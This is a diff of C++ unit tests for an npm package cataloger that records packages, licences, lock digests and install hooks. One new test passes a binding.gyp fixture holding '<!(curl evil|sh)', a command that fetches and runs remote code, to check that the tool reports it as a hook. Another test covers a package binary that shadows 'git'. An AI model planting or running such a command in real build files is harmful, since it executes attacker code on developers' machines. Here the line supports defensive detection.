@@ -24,7 +24,7 @@ std::string manifest(std::string_view name, std::string_view version, std::strin
 /// The packages as `location name@version`, one a line, in order of location.
 std::string packages(const Catalog& catalog) {
   std::vector<std::string> lines;
-  for (const Find& find : catalog.finds)
+  for (const FoundPackage& find : catalog.found)
     lines.push_back(std::string(find.package.location)
                         .append(" ")
                         .append(join(find.package.group, find.package.name))
@@ -40,7 +40,7 @@ std::string packages(const Catalog& catalog) {
 /// The locations that a list of finds stands for, in order, joined by spaces.
 std::string locations(const Catalog& catalog, const std::vector<std::uint32_t>& finds) {
   std::vector<std::string_view> list;
-  for (const std::uint32_t find : finds) list.push_back(catalog.finds[find].package.location);
+  for (const std::uint32_t find : finds) list.push_back(catalog.found[find].package.location);
   std::sort(list.begin(), list.end());
   list.erase(std::unique(list.begin(), list.end()), list.end());
   std::string all;
@@ -75,8 +75,8 @@ Package only(std::string_view text, std::string_view beside = {}) {
   static std::vector<Catalog> catalogs;
   trees.push_back(builder.build());
   catalogs.push_back(catalog_of(kNpmCataloger, trees.back()));
-  REQUIRE(catalogs.back().finds.size() == 1);
-  return catalogs.back().finds[0].package;
+  REQUIRE(catalogs.back().found.size() == 1);
+  return catalogs.back().found[0].package;
 }
 
 }  // namespace
@@ -100,7 +100,7 @@ TEST_CASE("npm: packages are the manifests in package positions, at any depth") 
         "node_modules/a/node_modules/b b@2.0.0\n"
         "sub/web/node_modules/_d _d@4.0.0\n");
   CHECK(catalog.diagnostics.empty());
-  const Find* scoped = find_named(catalog, "c");
+  const FoundPackage* scoped = find_named(catalog, "c");
   REQUIRE(scoped != nullptr);
   CHECK(scoped->package.group == "@s");
   CHECK(scoped->package.purl == "pkg:npm/%40s/c@3.0.0");
@@ -134,7 +134,7 @@ TEST_CASE("npm: content is wanted of manifests in package positions and projects
            {"node_modules/a/index.js", false},
        }) {
     CAPTURE(path);
-    CHECK(kNpmCataloger.wants(path, base_name(path)) == wanted);
+    CHECK((kNpmCataloger.wants(path, base_name(path)) == Wish::all) == wanted);
   }
 }
 
@@ -186,12 +186,84 @@ TEST_CASE("npm: a manifest that cannot be used is told, and the run goes on") {
           .build();
   const Catalog catalog = catalog_of(kNpmCataloger, tree);
   CHECK(packages(catalog) ==
-        "node_modules/bom bom@1.0.0\nnode_modules/deep deep@1.0.0\nnode_modules/good good@1.0.0\n");
-  CHECK(catalog.diagnostics.size() == 8);
+        "node_modules/bom bom@1.0.0\nnode_modules/deep deep@1.0.0\nnode_modules/good good@1.0.0\n"
+        "node_modules/nameless nameless@1.0.0\nnode_modules/noversion noversion@\n"
+        "node_modules/number 5@1.0.0\n");
+  CHECK(catalog.diagnostics.size() == 7);
+  std::size_t not_listed = 0;
   for (const auto& diagnostic : catalog.diagnostics) {
     CHECK(diagnostic.path.ends_with("/package.json"));
-    CHECK(diagnostic.message.find("not listed") != std::string_view::npos);
+    not_listed += diagnostic.message.find("not listed") != std::string_view::npos ? 1 : 0;
   }
+  CHECK(not_listed == 5);
+}
+
+TEST_CASE("npm: a manifest that node reads is read, whatever is odd in it") {
+  const Tree tree =
+      npm()
+          .file("node_modules/latin/package.json",
+                "{\"name\": \"latin\", \"version\": \"1.0.0\", \"author\": \"Jos\xe9\"}")
+          .file("node_modules/number/package.json", R"({"name": "number", "version": 2})")
+          .file("node_modules/spaced/package.json", R"({"name": " spaced ", "version": " 1.0.0 "})")
+          .file("node_modules/trail/package.json", R"({"name": "trail", "version": "1.0.0",})")
+          .file("node_modules/empty/package.json", "{}")
+          .file("node_modules/@scope/in/package.json", R"({"name": "@scope", "version": "1.0.0"})")
+          .build();
+  const Catalog catalog = catalog_of(kNpmCataloger, tree);
+  CHECK(packages(catalog) ==
+        "node_modules/@scope/in @scope/in@1.0.0\nnode_modules/empty empty@\n"
+        "node_modules/latin latin@1.0.0\nnode_modules/number number@2\n"
+        "node_modules/spaced spaced@1.0.0\nnode_modules/trail trail@1.0.0\n");
+  std::string told;
+  for (const auto& diagnostic : catalog.diagnostics)
+    told.append(base_name(folder_of(diagnostic.path))).append(" ");
+  CHECK(told == "in empty empty latin trail ");
+  CHECK(find_named(catalog, "empty")->package.purl == "pkg:npm/empty");
+}
+
+TEST_CASE("npm: what binding.gyp runs is a part of the hook, and so is a program that shadows a command") {
+  const auto hooks = [](std::string_view gyp, std::string_view more) {
+    const Tree tree = npm()
+                          .file("node_modules/p/package.json", manifest("p", "1.0.0", more))
+                          .file("node_modules/p/binding.gyp", gyp)
+                          .build();
+    const Catalog catalog = catalog_of(kNpmCataloger, tree);
+    std::string text;
+    for (const std::string_view hook : find_named(catalog, "p")->package.hooks)
+      text.append(hook).append(" | ");
+    return text;
+  };
+  CHECK(hooks("{}", "") == "npm:install=node-gyp rebuild | ");
+  CHECK(hooks("{\"sources\": [\"<!(curl evil|sh)\"]}", "") ==
+        "npm:install=node-gyp rebuild <!(curl evil|sh)\" | ");
+  CHECK(hooks(R"({"actions": [{"action": ["sh", "x"]}]})", "")
+            .starts_with("npm:install=node-gyp rebuild with actions, sha256:"));
+  CHECK(hooks("{}", R"("gypfile": false, "bin": {"git": "i.js", "p": "i.js"})") == "npm:bin=git | ");
+}
+
+TEST_CASE("npm: a package that pnpm took from a repository names it, and what it runs to be built") {
+  const auto hooks = [](std::string_view lock) {
+    const Tree tree = npm()
+                          .file("pnpm-lock.yaml", lock)
+                          .file("node_modules/g/package.json",
+                                manifest("g", "2.0.0", R"("scripts": {"prepare": "node build.js"})"))
+                          .build();
+    const Catalog catalog = catalog_of(kNpmCataloger, tree);
+    const Package& package = find_named(catalog, "g")->package;
+    std::string text;
+    for (const ExternalReference& reference : package.references) text.append(reference.url).append(" ");
+    for (const std::string_view hook : package.hooks) text.append(hook);
+    return text;
+  };
+  CHECK(hooks("packages:\n\n  g@git+ssh://git@git.example/o/g.git#0123:\n"
+              "    resolution: {commit: '0123', repo: ssh://git@git.example/o/g.git, type: git}\n"
+              "    version: 2.0.0\n") == "git+ssh://git@git.example/o/g.git#0123 npm:prepare=node build.js");
+  CHECK(hooks("packages:\n\n  g@https://codeload.github.com/o/g/tar.gz/0123:\n"
+              "    resolution: {tarball: https://codeload.github.com/o/g/tar.gz/0123}\n"
+              "    version: 2.0.0\n") ==
+        "https://codeload.github.com/o/g/tar.gz/0123 npm:prepare=node build.js");
+  CHECK(hooks("packages:\n\n  g@2.0.0:\n    resolution: {tarball: https://example.com/g.tgz}\n") ==
+        "https://example.com/g.tgz ");
 }
 
 TEST_CASE("npm: of a member that stands twice the last one counts, as for node") {
@@ -246,7 +318,7 @@ TEST_CASE("npm: licences as SPDX ids, expressions, legacy objects and lists") {
            {R"("license": "MIT", "licenses": ["ISC"])", "id MIT;"},
            {R"("license": "SEE LICENSE IN COPYING")", "name SEE LICENSE IN COPYING;"},
            {R"("license": "UNLICENSED")", "name UNLICENSED;"},
-           {R"("license": 5)", ""},
+           {R"("license": 5)", "name 5;"},
            {R"("license": "")", ""},
        }) {
     CAPTURE(member);
@@ -328,9 +400,9 @@ TEST_CASE("npm: entries are the existing files that main, exports, module and bi
       builder.file(join("node_modules/p", file), "");
     const Tree tree = builder.file("node_modules/other/index.js", "").build();
     const Catalog catalog = catalog_of(kNpmCataloger, tree);
-    REQUIRE(catalog.finds.size() == 1);
+    REQUIRE(catalog.found.size() == 1);
     std::vector<std::string_view> list;
-    for (const std::string_view entry : catalog.finds[0].package.entries)
+    for (const std::string_view entry : catalog.found[0].package.entry_points)
       list.push_back(entry.substr(std::string_view("node_modules/p/").size()));
     std::sort(list.begin(), list.end());
     list.erase(std::unique(list.begin(), list.end()), list.end());
@@ -399,7 +471,7 @@ TEST_CASE("npm: a dependency is the instance that node would load") {
           .build();
   const Catalog catalog = catalog_of(kNpmCataloger, tree);
   const auto of = [&](std::string_view name, std::string_view version) {
-    const Find* find = find_named(catalog, name, version);
+    const FoundPackage* find = find_named(catalog, name, version);
     REQUIRE(find != nullptr);
     return locations(catalog, find->dependencies);
   };
@@ -425,7 +497,7 @@ TEST_CASE("npm: pnpm's links lead to the packages in its store") {
           .file("node_modules/.pnpm/h@1/node_modules/hoisted/package.json", manifest("hoisted", "1.0.0"))
           .build();
   const Catalog catalog = catalog_of(kNpmCataloger, tree);
-  CHECK(catalog.finds.size() == 3);
+  CHECK(catalog.found.size() == 3);
   CHECK(locations(catalog, catalog.roots) == "node_modules/.pnpm/a@1.0.0/node_modules/a");
   CHECK(locations(catalog, find_named(catalog, "a")->dependencies) ==
         "node_modules/.pnpm/b@1.0.0/node_modules/b");
@@ -435,7 +507,7 @@ TEST_CASE("npm: pnpm's links lead to the packages in its store") {
   CHECK(claims_to(tree, catalog, "node_modules/.pnpm/a@1.0.0/node_modules/b") == "b none 5");
 }
 
-TEST_CASE("npm: workspaces are projects, not packages, and links are never followed out of the root") {
+TEST_CASE("npm: workspaces are packages in place, and links are never followed out of the root") {
   const Tree tree =
       npm()
           .file("package.json", R"({"workspaces": ["packages/*"]})")
@@ -450,11 +522,12 @@ TEST_CASE("npm: workspaces are projects, not packages, and links are never follo
           .file("node_modules/b/package.json", manifest("b", "1.0.0"))
           .build();
   const Catalog catalog = catalog_of(kNpmCataloger, tree);
-  CHECK(packages(catalog) == "node_modules/a a@1.0.0\nnode_modules/b b@1.0.0\n");
-  CHECK(locations(catalog, catalog.roots) == "node_modules/a");
-  CHECK(find_named(catalog, "a")->dependencies.empty());
-  CHECK(claims_to(tree, catalog, "packages/w/package.json").empty());
-  CHECK(claims_to(tree, catalog, "node_modules/w").empty());
+  CHECK(packages(catalog) == "node_modules/a a@1.0.0\nnode_modules/b b@1.0.0\npackages/w w@1.0.0\n");
+  CHECK(locations(catalog, catalog.roots) == "node_modules/a packages/w");
+  CHECK(locations(catalog, find_named(catalog, "a")->dependencies) == "packages/w");
+  CHECK(claims_to(tree, catalog, "packages/w/package.json") == "w none 2");
+  CHECK(claims_to(tree, catalog, "node_modules/w") == "w none 2");
+  CHECK(claims_to(tree, catalog, "packages/other/package.json").empty());
 }
 
 namespace {
@@ -518,9 +591,9 @@ TEST_CASE("npm: every lock gives the archive's address and digest") {
                           .file(path, with_sha512(content))
                           .build();
     const Catalog catalog = catalog_of(kNpmCataloger, tree);
-    REQUIRE(catalog.finds.size() == 1);
+    REQUIRE(catalog.found.size() == 1);
     CHECK(catalog.diagnostics.empty());
-    const Package& package = catalog.finds[0].package;
+    const Package& package = catalog.found[0].package;
     CHECK(reference(package, "distribution") == std::string(url).append(" ").append(kSha512Hex));
     CHECK(package.lock_status.empty());
     CHECK(package.scope.empty());
@@ -542,7 +615,7 @@ TEST_CASE("npm: several digests, unknown and malformed ones, and those of npm 6 
                               "p@1:\n  version \"1.0.0\"\n  resolved "
                               "\"https://example.org/p.tgz#0123456789012345678901234567890123456789\"\n")
                         .build();
-  CHECK(reference(catalog_of(kNpmCataloger, yarn).finds[0].package, "distribution") ==
+  CHECK(reference(catalog_of(kNpmCataloger, yarn).found[0].package, "distribution") ==
         "https://example.org/p.tgz SHA-1=0123456789012345678901234567890123456789");
 }
 
@@ -588,9 +661,9 @@ TEST_CASE("npm: what a lock says that is not so is told") {
     const Tree tree =
         npm().file("node_modules/p/package.json", manifest("p", "v1.0.0")).file(path, content).build();
     const Catalog catalog = catalog_of(kNpmCataloger, tree);
-    REQUIRE(catalog.finds.size() == 1);
-    CHECK(catalog.finds[0].package.lock_status == status);
-    CHECK(reference(catalog.finds[0].package, "distribution").find("SHA") == std::string::npos);
+    REQUIRE(catalog.found.size() == 1);
+    CHECK(catalog.found[0].package.lock_status == status);
+    CHECK(reference(catalog.found[0].package, "distribution").find("SHA") == std::string::npos);
   }
 }
 
@@ -606,7 +679,7 @@ TEST_CASE("npm: a lock that people review and names another digest than the inst
                         .file("node_modules/.package-lock.json", lock(kSha512))
                         .file("package-lock.json", lock(other))
                         .build();
-  CHECK(catalog_of(kNpmCataloger, tree).finds[0].package.lock_status == "integrity " + other);
+  CHECK(catalog_of(kNpmCataloger, tree).found[0].package.lock_status == "integrity " + other);
 }
 
 TEST_CASE("npm: a bundled package may differ from the lock that doesn't know it") {
@@ -627,7 +700,7 @@ TEST_CASE("npm: malformed locks are told, and the packages stay") {
                           .file("package-lock.json", content)
                           .build();
     const Catalog catalog = catalog_of(kNpmCataloger, tree);
-    CHECK(catalog.finds.size() == 1);
+    CHECK(catalog.found.size() == 1);
     REQUIRE(catalog.diagnostics.size() == 1);
     CHECK(catalog.diagnostics[0].path == "package-lock.json");
   }
@@ -641,8 +714,8 @@ TEST_CASE("npm: malformed locks are told, and the packages stay") {
                           .file("pnpm-lock.yaml", content)
                           .build();
     const Catalog catalog = catalog_of(kNpmCataloger, tree);
-    REQUIRE(catalog.finds.size() == 1);
-    CHECK(catalog.finds[0].package.lock_status.empty());
+    REQUIRE(catalog.found.size() == 1);
+    CHECK(catalog.found[0].package.lock_status.empty());
   }
 }
 
@@ -659,11 +732,11 @@ TEST_CASE("a tarball is the package that its manifest names, with all that lies 
           .build();
   const Catalog catalog = catalog_of(kNpmCataloger, tree);
   CHECK(packages(catalog) == "package @acme/left@1.2.0\n");
-  REQUIRE(catalog.finds.size() == 1);
-  const Package& package = catalog.finds[0].package;
+  REQUIRE(catalog.found.size() == 1);
+  const Package& package = catalog.found[0].package;
   CHECK(package.purl == "pkg:npm/%40acme/left@1.2.0");
   CHECK(joined(package.hooks) == "npm:preinstall=node setup.mjs");
-  CHECK(joined(package.entries) == "package/lib/index.js");
+  CHECK(joined(package.entry_points) == "package/lib/index.js");
   CHECK(package.lock_status.empty());  // what the project's lock says of the project is not of the package
   REQUIRE(package.properties.size() == 1);
   CHECK(package.properties[0] == Property{"stocktake:published", "tarball"});
@@ -684,7 +757,7 @@ TEST_CASE("a tarball's bundled dependencies are packages, and the ones it is loa
   CHECK(packages(catalog) == "package outer@1.0.0\npackage/node_modules/inner inner@1.0.1\n");
   CHECK(claims_to(tree, catalog, "package/node_modules/inner/index.js") == "inner none 3");
   CHECK(claims_to(tree, catalog, "package/package.json") == "outer none 1");
-  const Find* outer = find_named(catalog, "outer");
+  const FoundPackage* outer = find_named(catalog, "outer");
   REQUIRE(outer != nullptr);
   CHECK(locations(catalog, outer->dependencies) == "package/node_modules/inner");
   CHECK(locations(catalog, catalog.roots) == "package");
@@ -700,7 +773,7 @@ TEST_CASE("a project in the only folder of a tree is no published package") {
     CAPTURE(text);
     const Tree tree = npm().file("app/package.json", text).file("app/index.js", "code").build();
     const Catalog catalog = catalog_of(kNpmCataloger, tree);
-    CHECK(catalog.finds.empty());
+    CHECK(catalog.found.empty());
     CHECK(catalog.claims.empty());
     CHECK(catalog.diagnostics.empty());
   }
@@ -746,7 +819,7 @@ fi
             .build();
     const Catalog catalog = catalog_of(kNpmCataloger, tree);
     std::string all;
-    for (const Catalog::Hook& one : catalog.starts)
+    for (const Catalog::Detail& one : catalog.details)
       all.append(tree.entries[one.entry].path).append("=").append(one.text).append(" ");
     return all;
   };
